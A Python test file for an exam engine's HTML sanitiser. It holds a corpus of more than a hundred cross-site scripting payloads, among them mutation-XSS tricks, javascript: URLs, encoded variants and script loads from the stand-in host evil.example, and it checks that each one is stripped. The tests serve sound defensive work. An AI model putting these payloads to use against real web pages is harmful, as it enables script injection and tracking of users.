"""The sanitiser: whatever goes in, only allow-listed tags come out, and cleaning again changes nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from examengine.core.html import TAGS, Shown, addressed, clean, code, pictures, plain

WORDS = {"p", "br", "strong", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "blockquote", "code", "pre"}
NAME = "0123456789abcdef" * 4 + ".png"
PICTURE = f'<img src="media:{NAME}" alt="a form">'
ALLOWED = WORDS | {"img", "table", "thead", "tbody", "tr", "th", "td"}
ATTACKS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "<script>alert(1)",
    "<p>a<script>alert(1)</p>",
    '<script>var a = "</script><script>alert(1)</script>";</script>',
    "<script type=module>import('//evil.example')</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p oNcLiCk='alert(1)'>x</p>",
    "<p/onmouseover=alert(1)//>x</p>",
    "<p\nonfocus=alert(1)\nautofocus\ntabindex=1>x</p>",
    "<p \x0conclick=alert(1)>x</p>",
    '<td colspan="1" onclick="alert(1)">x</td>',
    '<table><tr><td colspan="&quot; onclick=alert(1) x=&quot;">x</td></tr></table>',
    "<table><tr><th rowspan='\"><img src=x onerror=alert(1)>'>x</th></tr></table>",
    "<table><tr><td colspan=2 onclick=alert(1) style=color:red>x</td><th id=x onclick=alert(1)>y</th></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</option></select>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<img src=//evil.example/count.gif>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    # style
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>*{background:url(//evil.example)}</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    '<p class="modal" id="submit" name="csrf_token">x</p>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    # mutation: what one parser reads as text is markup to the next
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><g title="</style><img src onerror=alert(1)>"></p></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "<template><p onclick=alert(1)>x</p></template>",
    "<template><template></template><img src=x onerror=alert(1)></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><style><img src=x onerror=alert(1)></style></table>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p>`<img src=`x` onerror=alert(1)>`</p>",
    # comments, declarations, CDATA
    "<!--><img src=x onerror=alert(1)>-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]><p>&x;</p>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    # nested encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # malformed tags
    "<img src=x onerror=alert(1)",
    "<p <img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    "< script>alert(1)</ script>",
    "<p></p></p><img src=x onerror=alert(1)//",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<strong><p><strong><img src=x onerror=alert(1)></p></strong>",
]

_ALLOWED = re.compile(
    rf'</?(?:{"|".join(ALLOWED - {"img"})})>|<t[hd](?: (?:colspan|rowspan)="[^"<>]*")*>'
    r'|<img src="media:[0-9a-f]{64}\.(?:png|jpg|webp|gif)" alt="[^"<>]*">'
)


class Reader(HTMLParser):
    """Reads like a browser's tokenizer, without bleach and html5lib."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if tag == "img" and (name == "alt" or (name == "src" and str(value).startswith("media:"))):
                continue
            if tag not in {"td", "th"} or name not in {"colspan", "rowspan"}:
                self.faults.append(f"<{tag} {name}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"section {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def faults(rich: str) -> list[str]:
    reader = Reader()
    reader.feed(rich)
    reader.close()
    return reader.faults


def test_the_allow_list_is_the_documented_one() -> None:
    assert TAGS == ALLOWED


def test_the_corpus_is_large_enough() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


def test_the_reader_sees_what_it_is_to_see() -> None:
    seen = faults('<p onclick=x><b>x</b></p><!-- c --><?pi?><!DOCTYPE x><td colspan="2">')
    assert len(seen) == 5
    assert faults('<img src="x" alt="y">') == ["<img src>"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_allowed_tags_survive_an_attack(attack: str) -> None:
    assert faults(clean(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_angle_bracket_left_by_an_attack_is_an_allowed_tag(attack: str) -> None:
    assert "<" not in _ALLOWED.sub("", clean(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_list_item_is_no_better(attack: str) -> None:
    cleaned = clean(f"<ul><li>{attack}</li></ul><p>after</p>")
    assert faults(cleaned) == []
    assert "<" not in _ALLOWED.sub("", cleaned)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_is_cleaning_once(attack: str) -> None:
    assert clean(clean(attack)) == clean(attack)


@pytest.mark.parametrize(
    "text",
    [
        "<b>hi</b>",
        "<b>one\n\ntwo</b>",
        "a<!-- b --> c",
        "<pre>\n\nx</pre>",
        "<li><table><li>",
        "<p>a<p>b",
        "a\rb\r\nc",
        "<table><p>x</table>",
        "<strong>a<p>b</strong>c",
        "&foo; &lt; &amp;amp;",
        "\xa0&nbsp;x",
    ],
)
def test_cleaned_text_is_a_fixed_point(text: str) -> None:
    assert clean(clean(text)) == clean(text)


_PIECES = st.one_of(
    st.sampled_from(
        [f"<{slash}{tag}>" for slash in ("", "/") for tag in sorted(ALLOWED)]
        + [
            f"<{slash}{tag}>"
            for slash in ("", "/")
            for tag in ("script", "style", "svg", "math", "mtext", "title", "template", "div", "b")
        ]
        + [
            "<td colspan=2 x=y>",
            "<p onclick=x>",
            "<img src=x onerror=y>",
            PICTURE,
            f"<img alt='\"&<' src=media:{NAME} onload=x>",
            f'<img src="media:{NAME}"',
            f'<img src=" media:{NAME}" alt="[[1]]>">',
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<p",
            "<br/>",
        ]
        + [
            "&lt;",
            "&",
            "&amp;lt;",
            "&#60;",
            "&nbsp;",
            "\n",
            "\n\n",
            "\r",
            " ",
            "\t",
            "<",
            ">",
            '"',
            "'",
            "/",
            "=",
            "中",
        ]
    ),
    st.text(max_size=3),
)


@given(st.lists(_PIECES, max_size=12).map("".join))
def test_any_soup_of_tags_comes_out_safe_and_stays_as_it_is(text: str) -> None:
    cleaned = clean(text)
    assert faults(cleaned) == []
    assert "<" not in _ALLOWED.sub("", cleaned)
    assert clean(cleaned) == cleaned


@given(st.text())
def test_text_without_markup_keeps_its_words(text: str) -> None:
    words = re.sub(r"[<>&\x00-\x1f\x7f]", "", text)
    assert "".join(plain(clean(words)).split()) == "".join(words.split())


@pytest.mark.parametrize("hidden", ["script", "style", "template", "noscript"])
def test_what_was_never_text_is_not_kept_as_text(hidden: str) -> None:
    assert clean(f"<p>a</p><{hidden}>secret()</{hidden}><p>b</p>") == "<p>a</p><p>b</p>"


def test_words_inside_other_tags_are_kept() -> None:
    assert clean('<p>See <a href="x">the page</a> and <b>read</b>.</p>') == "<p>See the page and read.</p>"


def test_comments_go() -> None:
    assert clean("<p>a<!-- key: C --></p>") == "<p>a</p>"


def test_written_angle_brackets_stay_written() -> None:
    assert clean("<p>&lt;script&gt;</p>") == "<p>&lt;script&gt;</p>"


@pytest.mark.parametrize(
    "tag", sorted(ALLOWED - {"br", "img", "thead", "tbody", "tr", "th", "td", "table", "li", "pre"})
)
def test_allowed_tags_stay(tag: str) -> None:
    assert clean(f"<{tag}>x</{tag}>") == f"<{tag}>x</{tag}>"


def test_a_table_keeps_its_spans_and_nothing_else() -> None:
    table = (
        '<table class="x"><thead><tr><th colspan="2" scope="col">h</th></tr></thead><tbody><tr><td rowspan="2">a</td>'
    )
    cleaned = clean(table + "<td>b</td></tr></tbody></table>")
    assert 'colspan="2"' in cleaned
    assert 'rowspan="2"' in cleaned
    assert "class" not in cleaned
    assert "scope" not in cleaned


def test_a_gap_at_the_head_of_pre_costs_no_markup() -> None:
    assert clean("<pre>" + "\n" * 20 + "x\n  y</pre>") == "<pre>x\n  y</pre>"


def test_spans_belong_to_cells_only() -> None:
    assert clean('<p colspan="2">x</p>') == "<p>x</p>"


@pytest.mark.parametrize(
    ("text", "rich"),
    [
        ("", ""),
        (" \n\n ", ""),
        ("one", "<p>one</p>"),
        ("one\n\ntwo", "<p>one</p><p>two</p>"),
        ("one\n \t\n\n\ntwo\n", "<p>one</p><p>two</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("one\r\n\r\ntwo\r\nthree", "<p>one</p><p>two<br>three</p>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("1<2", "<p>1&lt;2</p>"),
        ('"quoted"', '<p>"quoted"</p>'),
        ("先安抚。\n\n再核实。", "<p>先安抚。</p><p>再核实。</p>"),
        ("a\x00b\x07c\x7f", "<p>abc</p>"),
    ],
)
def test_plain_text_becomes_paragraphs(text: str, rich: str) -> None:
    assert clean(text) == rich


@pytest.mark.parametrize(
    ("rich", "words"),
    [
        ("<p>one</p><p>two</p>", "one\ntwo"),
        ("<p>one<br>two</p>", "one\ntwo"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<p>a <strong>b</strong>  c</p>", "a b c"),
        ("<p>1 &lt; 2 &amp; 3</p>", "1 < 2 & 3"),
        (
            "<table><tbody><tr><th>Time</th><th>Event</th></tr><tr><td>10:02</td><td>call</td></tr></tbody></table>",
            "Time Event\n10:02 call",
        ),
        ("<p> </p>", ""),
        ("", ""),
    ],
)
def test_plain_gives_the_words_one_line_a_block(rich: str, words: str) -> None:
    assert plain(rich) == words


@pytest.mark.parametrize(
    "written",
    [
        "<img src=x>",
        "<img>",
        "<img alt=x>",
        f"<img src=https://x.example/{NAME}>",
        f"<img src=/media/{NAME}>",
        f"<img src=MEDIA:{NAME}>",
        f"<img src=media:{NAME}.svg>",
        f"<img src=media:{NAME.replace('png', 'svg')}>",
        f"<img src=media:{NAME.upper()}>",
        f"<img src=media:../{NAME}>",
        f"<img src='media:{NAME}\nx'>",
        f"<img srcset='media:{NAME} 2x'>",
        "<img src=data:image/png;base64,AAAA>",
        "<img src=media:>",
    ],
)
def test_a_picture_from_elsewhere_is_left_out(written: str) -> None:
    assert "img" not in clean(f"<p>a{written}b</p>")


def test_of_a_picture_only_its_name_and_its_words_stay() -> None:
    written = (
        f"<p><img class=x width=9 style=x:y loading=lazy src=media:{NAME} onerror=x alt='a &quot;form&quot; &lt;1'></p>"
    )
    cleaned = clean(written)
    assert cleaned == f'<p><img src="media:{NAME}" alt="a &quot;form&quot; &lt;1"></p>'
    assert pictures(cleaned) == [Shown(NAME, 'a "form" <1')]
    assert pictures(clean(f"<img src='media:{NAME}'>")) == [Shown(NAME, "")]


def test_plain_text_with_pictures_stays_plain_text() -> None:
    assert clean(f"1 < 2 & 3\n\ntwo\n{PICTURE}") == f"<p>1 &lt; 2 &amp; 3</p><p>two<br>{PICTURE}</p>"


def test_a_description_holds_no_blank_of_a_fill_in() -> None:
    assert "[[" not in clean(f"<p><img src='media:{NAME}' alt='x [[1]] [[[2]]'></p>")


def test_marks_of_frames_are_no_text() -> None:
    assert clean("<p>a\ue000SLOT\ue001b</p>") == "<p>aSLOTb</p>"


@pytest.mark.parametrize(
    ("alt", "words"),
    [
        ("a form", "[picture: a form]"),
        ("来电流程", "[图片：来电流程]"),
        ("", "[picture]"),
        ("1 < 2", "[picture: 1 < 2]"),
    ],
)
def test_in_plain_words_a_picture_is_its_description(alt: str, words: str) -> None:
    assert plain(clean(f"<p>Look: {code(NAME, alt)}</p>")) == f"Look: {words}"


def test_a_picture_gets_its_address_or_stays_words() -> None:
    rich = f"<p>{PICTURE}</p>"
    assert addressed(rich, "/items/1/media/{}".format) == f'<p><img src="/items/1/media/{NAME}" alt="a form"></p>'
    assert addressed(rich, lambda name: "/x", " loading=lazy") == '<p><img src="/x" alt="a form" loading=lazy></p>'
    assert addressed(rich, None) == "<p>[picture: a form]</p>"


@given(st.text())
def test_any_description_is_kept_as_it_is_read(alt: str) -> None:
    cleaned = clean(f"<p>{code(NAME, alt)}</p>")
    assert clean(cleaned) == cleaned
    found = pictures(cleaned)
    assert len(found) == 1 and found[0].name == NAME
    assert faults(cleaned) == []
